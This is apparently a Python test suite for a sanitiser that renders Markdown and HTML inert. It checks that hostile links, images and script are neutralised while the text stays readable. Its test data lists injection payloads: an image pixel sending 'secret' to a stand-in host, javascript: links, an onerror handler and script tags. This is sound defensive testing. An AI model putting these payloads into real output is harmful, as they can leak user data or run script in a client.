"""What comes of documents and models is shown, and nothing in it can be followed, fetched or run."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from workflows.inert import inert

HOSTILE = [
    "![pixel](https://evil.example/?q=secret)",
    "![pixel][1]\n\n[1]: https://evil.example/p.png",
    "[click](javascript:alert(1))",
    "[click](<https://evil.example>)",
    "<https://evil.example>",
    "see https://evil.example/a?b=c or www.evil.example or HTTP://EVIL.example",
    '<img src="https://evil.example/x.png" onerror=alert(1)>',
    "<a href='data:text/html,x'>x</a> <!-- x --> <script>x</script>",
    "write to someone@evil.example or mailto:someone@evil.example",
    "[![nested](ftp://evil.example/i)](ftp://evil.example)",
    "[ref]: //evil.example/x 'title'\n\n[ref]",
]


def alive(text: str) -> list[str]:
    """What a client could follow, fetch or run: by CommonMark with HTML, and by what others link by themselves."""
    found = [
        each.type
        for token in MarkdownIt("commonmark", {"html": True}).parse(text)
        for each in [token, *(token.children or ())]
        if each.type in ("link_open", "image", "html_inline", "html_block")
    ]
    return found + re.findall(r"\w+://\w|\bwww\.\w|(?:mailto|javascript|data):|\w@\w+\.\w", text, re.IGNORECASE)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_is_left_to_follow_or_to_fetch(text: str):
    assert alive(text)
    assert alive(inert(text)) == []
    assert "evil" in inert(text) or "evil" not in text, "what it says is still there to read"


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.one_of(st.sampled_from(HOSTILE), st.text("[](!<>:/w.@ \n'\"\\h", max_size=8)), max_size=6).map("".join)
)
def test_however_it_is_put_together(text: str):
    assert alive(inert(text)) == []


@pytest.mark.parametrize(
    "text", ["Ratio 3:1, 10:30 o'clock", "a < b and b > c", "第一条：甲方 [见附件] (略)", "- **bold** text"]
)
def test_plain_text_stays_as_it_is(text: str):
    assert inert(text) == text
